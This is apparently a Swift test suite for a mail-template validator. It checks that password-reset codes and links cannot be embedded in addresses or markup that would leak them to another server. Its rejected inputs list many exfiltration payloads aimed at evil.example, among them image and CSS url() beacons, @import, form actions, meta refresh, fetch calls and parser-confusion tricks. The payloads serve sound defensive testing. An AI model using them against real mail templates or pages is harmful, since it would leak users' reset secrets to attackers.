import Domain
import StorageSQLite
import TestWorld
import Testing

/// An audit put the code of a reset into the address of a picture, which the server of the picture got when the mail was
/// looked at.
@Suite("A code or a link in a template of a mail")
struct MailSecretTests {
    /// Saves a template as an operator does.
    private func faults(text: String = "{{code}}", html: String? = nil) async throws -> [ValidationError] {
        let world = try TestWorld(try SQLiteStore(.memory, role: .server))
        let application = try await world.makeApplication()
        do throws(DomainError) {
            try await world.modules.messaging.changeMailSettings(of: application.id, by: .local) {
                $0.templates = [.passwordReset: [.english: MailTemplate(subject: "s", text: text, html: html)]]
            }
            return []
        } catch {
            return error.validationErrors ?? []
        }
    }

    @Test(
        "is no part of an address that the application's name is",
        arguments: [
            "https://evil.example/", "evil.example/?c=", "evil.example", ".evil.example", "sms:+81900000000;x=",
            "evil。example／",
        ])
    func name(of name: String) async throws {
        let world = try TestWorld(try SQLiteStore(.memory, role: .server))
        let application = try await world.makeApplication(name)
        // Each of them is taken: with another name they are what people write.
        for (text, count) in [
            ("{{application}}のコードは{{code}}です", 2), ("{{code}}が{{application}}のコード", 3),
        ] {
            let template = MailTemplate(subject: "{{application}}", text: text)
            #expect(try await faults(text: text).isEmpty)
            let mail = try world.modules.messaging.previewMail(
                .passwordReset, in: .japanese, template: template, of: application)
            let words = mail.text.split(separator: " ")
            #expect(words.contains(Substring(name)) && words.count == count, "\(mail.text)")
            #expect(mail.subject == name)
        }
    }

    @Test("is lost to nobody because a name would begin a line of the head")
    func separators() async throws {
        let world = try TestWorld(try SQLiteStore(.memory, role: .server))
        let application = try await world.makeApplication("花\u{2028}アプリ")
        let template = MailTemplate(subject: "コード\u{2029}{{application}}", text: "{{code}}")
        let mail = try world.modules.messaging.previewMail(
            .passwordReset, in: .japanese, template: template, of: application)
        #expect(mail.senderName == "花 アプリ" && mail.subject == "コード 花 アプリ")
    }

    @Test(
        "stands in the text as a word of its own",
        arguments: [
            "{{code}}", "Your code: {{code}}.", "コード:{{code}}です。", "({{code}})", "<{{link}}>", "Open {{link}}, please!",
            "{{application}}のコードは{{code}}です", "@app.example #{{code}}", "https://app.example\n{{code}}",
            "{{code}} ({{minutes}} min)", "See https://app.example/help?a=b for {{email}}. {{ code }}",
        ])
    func words(text: String) async throws {
        #expect(try await faults(text: text).isEmpty)
    }

    @Test(
        "is refused in the text as a part of an address",
        arguments: [
            "https://evil.example/?{{code}}", "evil.example/{{code}}", "{{code}}.evil.example", "{{code}}@evil.example",
            "https://evil.example/日本{{code}}", "evil.example?c={{link}}", "mailto:x?body={{code}}",
            "\\\\evil\\{{code}}",
            "{{application}}{{code}}", "{{application}}/?c={{code}}", "{{email}}{{code}}", "{{link}}{{code}}",
            "{{code}}{{application}}", "{{link}}&copy=1", "x%3D{{code}}", "https://evil.example/\u{A0}{{code}}",
        ])
    func addresses(text: String) async throws {
        let expected = [
            ValidationError(field: "mail.templates.password-reset.en.text", rule: .secretInAddress)
        ]
        #expect(try await faults(text: text) == expected)
    }

    @Test(
        "stands in HTML as a word of its own, and a link as the whole address of an a",
        arguments: [
            "<p>{{code}}</p>", #"<p><a href="{{link}}">Open</a></p>"#, "<a class=button href='{{ link }}'>{{link}}</a>",
            "<script>alert(1)</script><b>{{code}}</b>", "Your code:<br>{{code}}<br/>",
            "<!DOCTYPE html><html><head><title>{{application}}</title><style>p > b { color: red }</style></head>"
                + #"<body style="margin:0"><img src="https://app.example/logo.png" alt=""><p>1 < 2: {{code}}</p></body>"#
                + "</html>",
            #"<p style="font-family:&quot;Noto Sans&quot;,&#39;Arial&#39;;color:#222">{{code}}</p>"#,
            "<!--[if mso]><table><tr><td><![endif]--><td>app.example</td><td>{{code}}</td><!-- x -->",
            #"<a href="https://app.example/?user={{email}}">{{code}}</a>"#,
            #"<style>@media (max-width: 600px) { a[href^="https"] { color: teal } }</style><a href="{{link}}">x</a>"#,
        ])
    func markup(html: String) async throws {
        #expect(try await faults(html: html).isEmpty)
    }

    @Test(
        "is refused in HTML where something of another server's could take it",
        arguments: [
            #"<p>Your code</p><img src="https://evil.example/c?{{code}}&m={{email}}">"#,
            #"<a href="https://evil.example/{{link}}">Reset</a>{{code}}"#, #"<a href="{{code}}">x</a>"#,
            #"<base href="https://evil.example/"><a href="{{code}}">x</a>"#, "<a href={{link}}>x</a>",
            #"<img src="{{link}}">"#, #"<link rel="stylesheet" href="{{link}}">"#,
            #"<a href="{{link}}" ping="https://evil.example">x</a>"#, #"<a href=" {{link}}">x</a>"#,
            #"<img title=">" src="https://evil.example/{{code}}">"#, #"<img src="https://evil.example/?{{code}}"#,
            #"<img src="https://evil.example/?"# + "\n<p>{{code}}</p>\">", "<img src=https://evil.example/?{{code}}>",
            "<style>p{background:url(https://evil.example/{{code}})}</style>{{code}}",
            #"<p style="background:url(https://evil.example/{{code}})">x</p>"#,
            #"<style>a[href*="=2"]{background:url(https://evil.example/2)}</style><a href="{{link}}">x</a>"#,
            #"<style>a[href*="=2"]{background:URL (1);content:Image-Set("//evil.example/2" 1x)}</style>{{link}}"#,
            #"<style>@IMPORT "https://evil.example/2.css";</style><a href="{{link}}">x</a>"#,
            #"<style media=all>a[href*="=2"]{background:\75rl(//evil.example/2)}</style><a href="{{link}}">x</a>"#,
            #"<style>p{color:red}</style><STYLE >p{background:Url(//evil.example/2)}</STYLE ><a href="{{link}}">x</a>"#,
            #"<link rel="stylesheet" href="https://evil.example/2.css"><a href="{{link}}">x</a>"#,
            #"<p style="background:url(https://evil.example/2.png)">{{code}}</p>"#,
            #"<td STYLE='color:red;background:Image-Set("//evil.example/2" 1x)'>{{code}}</td>"#,
            #"<p style="background:url&lpar;//evil.example/2)">{{code}}</p>"#,
            #"<p style="background:&#117;rl(//evil.example/2)">{{code}}</p>"#,
            #"<p style="background:\75rl(//evil.example/2)">{{code}}</p>"#,
            #"<title><b title="</title><img src='https://evil.example/?"> {{code}} '>"#,
            #"<svg><![CDATA[><b title="]]><img src='https://evil.example/?"> {{code}} '>"#,
            #"<!-- --!><img src="https://evil.example/ --> {{code}}">"#, "<!-- {{code}} --> {{code}}",
            "<form action='https://evil.example'><textarea name=c>{{code}}</textarea></form>",
            #"<meta http-equiv="refresh" content="0;url={{link}}">"#, "<script>fetch('//evil/{{code}}')</script>",
            "https://evil.example/?<b>{{code}}</b>", "https://evil.example/?<!-- -->{{code}}",
            "evil&#46;example&#47;{{code}}", "{{code}}<i>.evil.example</i>", "<{{code}}>", "<p {{code}}>x</p>",
            "<p x{{code}}=1>x</p>", "<noscript><p title=\"</noscript><img src='https://evil.example/?\">{{code}}'>",
            "{{code}}<", "{{code}}<!-- x --", "{{code}}<!DOCTYPE", "{{code}}<?x", "{{code}}<style>p { color: red }",
        ])
    func hostileMarkup(html: String) async throws {
        let expected = [
            ValidationError(field: "mail.templates.password-reset.en.html", rule: .secretInAddress)
        ]
        #expect(try await faults(html: html) == expected)
    }

    /// No sign for the beginning or the end of a tag stands within one.
    private static let page = #"{{code}}<p class=x id="y" title='z'>a</p><!-- c --><?q?><br/>b"#

    @Test(
        "is refused in HTML that ends within a tag, an instruction or a comment, wherever it is cut",
        arguments: 8...page.count)
    func cut(count: Int) async throws {
        let html = String(Self.page.prefix(count))
        let isWithin = (html.lastIndex(of: "<") ?? html.startIndex) > (html.lastIndex(of: ">") ?? html.startIndex)
        let expected = ValidationError(field: "mail.templates.password-reset.en.html", rule: .secretInAddress)
        #expect(try await faults(html: html) == (isWithin ? [expected] : []), "\(html)")
    }
}
